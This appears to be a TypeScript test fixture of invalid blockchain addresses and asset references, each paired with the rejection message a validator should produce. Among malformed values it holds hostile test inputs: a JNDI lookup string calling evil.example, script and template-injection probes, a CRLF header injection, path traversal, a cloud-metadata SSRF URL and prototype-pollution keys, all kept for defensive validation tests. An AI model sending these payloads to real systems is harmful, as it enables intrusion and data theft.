/** Bad addresses and asset references by the rows of the matrix of bad input, and what the graph says of them. */
import type { Value } from './doors.ts';

export interface BadValue extends Value {
  readonly row: number;
  /** In the message, by whichever door the value came. */
  readonly says: string | RegExp;
}

export const TEOS = '0xe12ee2c013468c132a1f980067e22f39f3f42dff';
export const TEOS_ASSET = '0x59597b974054b763da210001';

const BITCOIN = 'Bitcoin/Sandbox';
const ETHEREUM = 'Ethereum/Sandbox';

function teos(row: number, says: string | RegExp, ...values: readonly string[]): BadValue[] {
  return values.map((bad) => ({ row, source: 'sandbox-teos', bad, good: TEOS, says }));
}

function reddio(row: number, bad: string, says: string | RegExp): BadValue {
  return { row, source: 'sandbox-reddio', bad, good: '0x1', says };
}

function loopring(row: number, says: string | RegExp, ...values: readonly string[]): BadValue[] {
  return values.map((bad) => ({ row, source: 'sandbox-loopring', bad, good: '10000', says }));
}

export const badAddresses: readonly BadValue[] = [
  ...teos(5, /is empty|must have the form/, ''),
  ...teos(6, 'white space at position 0', ' ', '\t', '\u00a0'),
  ...teos(7, 'white space at position 0', ` ${TEOS}`),
  ...teos(8, '0 hex digits after 0x, need 40', '0x'),
  ...teos(9, '39 hex digits, need 40', TEOS.slice(0, -1)),
  ...teos(10, '41 hex digits, need 40', `${TEOS}0`),
  ...teos(11, 'must start with 0x', TEOS.slice(2)),
  ...teos(12, '0x', `0X${TEOS.slice(2)}`),
  ...teos(13, 'character "g" at position 17 is not hex', `${TEOS.slice(0, 17)}g${TEOS.slice(18)}`),
  ...teos(14, 'checksum', '0xE12ee2c013468c132a1f980067e22f39f3f42dff'),
  ...teos(16, 'U+FF10', `\uff10\uff58${TEOS.slice(2)}`),
  ...teos(16, 'character U+0430 at position 9', `${TEOS.slice(0, 9)}\u0430${TEOS.slice(10)}`),
  ...teos(17, 'U+200D', `${TEOS.slice(0, 5)}\u200d${TEOS.slice(6)}`),
  ...teos(18, 'U+212A', `0x\u212a${TEOS.slice(3)}`),
  ...teos(18, 'U+0130', `0x\u0130${TEOS.slice(3)}`),
  ...teos(19, 'position 0', `\ud800${TEOS}`),
  ...teos(20, 'control character U+0000', `0x\u0000${TEOS.slice(3)}`),
  ...teos(21, 'control character U+000D', '0x\r\nX-Injected: 1'),
  ...teos(22, 'control character U+001B', '0x\u001b[2J'),
  ...teos(23, /10000\d\d characters, limit|has more than|is longer than/, 'a'.repeat(1_000_000)),
  ...teos(24, 'not allowed', "'"),
  ...teos(25, 'not allowed', `${TEOS}'],uniqueAssetIds=['0xEVIL`),
  ...teos(26, 'not allowed', `${TEOS}''`),
  ...teos(28, 'not allowed', '..'),
  ...teos(29, 'not allowed', '.', '%2e%2e', '..%2f..%2fadmin'),
  ...teos(30, 'not allowed', 'a/b', 'a\\b'),
  ...teos(31, 'not allowed', 'a?x=1', 'a#b', 'a&asset_id=z'),
  ...teos(32, 'not allowed', 'http://169.254.169.254/'),
  ...teos(33, 'not allowed', '__proto__'),
  ...teos(34, 'must start with 0x', 'constructor', 'toString', 'hasOwnProperty'),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what attackers send
  ...teos(35, 'not allowed', '${jndi:ldap://evil.example/a}', '<script>alert(1)</script>', '{{7*7}}'),
  reddio(36, `0x${'1'.repeat(65)}`, '65 hex digits, at most 64'),
  reddio(37, `0x${'f'.repeat(64)}`, 'too large'),
  reddio(38, '0x0', 'zero is not a key'),
  { row: 41, source: 'sandbox-mesh', network: BITCOIN, bad: TEOS, good: 'bc1qtest', says: 'not in base58' },
  {
    row: 42,
    source: 'sandbox-mesh',
    network: BITCOIN,
    bad: '10OIlBP1eP5QGefi2DMPTfTL5SLmv7Div',
    good: 'bc1qtest',
    says: 'base58',
  },
  ...loopring(49, /digits only|leading zero/, '-1', '1.5', '1e3', '007'),
];

export interface BadReference extends BadValue {
  readonly account: string;
}

const ofTeos = `account/sandbox-teos/${TEOS}`;
const ofLoopring = 'account/sandbox-loopring/10000';
const ofMesh = `account/sandbox-mesh/${TEOS}?network=${ETHEREUM}`;

function currency(row: number, bad: string, says: string | RegExp): BadReference {
  return { row, source: 'sandbox-mesh', network: ETHEREUM, bad, good: 'ETH:18', account: ofMesh, says };
}

/** Currency metadata whose objects lie within each other. */
function nested(depth: number): string {
  return `ETH:18${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

export const badReferences: readonly BadReference[] = [
  ...loopring(27, 'digits only', 'a,b', '1,2').map((value) => ({ ...value, good: '0', account: ofLoopring })),
  ...teos(33, 'not allowed', '__proto__').map((value) => ({ ...value, good: TEOS_ASSET, account: ofTeos })),
  ...teos(34, 'not allowed', 'constructor').map((value) => ({ ...value, good: TEOS_ASSET, account: ofTeos })),
  ...teos(25, 'not allowed', "0x1','0x2").map((value) => ({ ...value, good: TEOS_ASSET, account: ofTeos })),
  ...loopring(49, /digits only|leading zero/, '-1', '1.5', '1e3', '007').map((value) => ({
    ...value,
    good: '0',
    account: ofLoopring,
  })),
  currency(52, 'ETH:-1', /DECIMALS|decimals/),
  // The specification of Mesh has an int32 here, so that 256 is a number like any other.
  currency(52, 'ETH:2147483648', 'decimals'),
  currency(52, 'ETH:18.5', /DECIMALS|decimals/),
  currency(53, ':18', /SYMBOL|symbol/),
  currency(61, 'ETH:18{"__proto__":1}', '__proto__'),
  currency(62, nested(100), /deep|nested/),
  currency(62, `ETH:18{"a":"${'x'.repeat(1_000_000)}"}`, /characters, limit|larger|longer/),
];
